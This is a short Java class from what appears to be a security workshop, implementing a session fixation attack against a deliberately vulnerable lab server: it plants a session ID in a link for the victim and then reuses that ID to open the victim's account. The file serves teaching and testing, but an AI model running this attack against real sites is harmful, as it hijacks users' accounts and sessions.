package workshop.attacks;

import java.net.URI;

/** Red team: session fixation — plant a session ID, wait for the victim to sign in with it (ATTACK DEMO, loopback only). */
public final class Fixation {

    private Fixation() {
    }

    /**
     * A12 · Gets an anonymous session from {@code server} ({@code GET /a12/} sets {@code a12_sid}) and returns the link
     * to send the victim: {@code /a12/?sid=<that ID>}, which makes the legacy server adopt the ID in the victim's browser.
     */
    public static URI trap(URI server) {
        Http.Answer welcome = Http.get(server.resolve("/a12/"), null);
        String id = welcome.cookie("a12_sid").orElseThrow(() -> new IllegalStateException(
                "GET /a12/ set no a12_sid cookie (status " + welcome.status() + ")"));
        return server.resolve("/a12/?sid=" + id);
    }

    /** A12 · After the victim signed in: {@code GET /a12/account} with the planted ID as {@code a12_sid}, as the attacker. */
    public static Http.Answer takeOver(URI server, URI trap) {
        String id = trap.getQuery().substring("sid=".length());
        return Http.getWithCookie(server.resolve("/a12/account"), "a12_sid=" + id);
    }
}
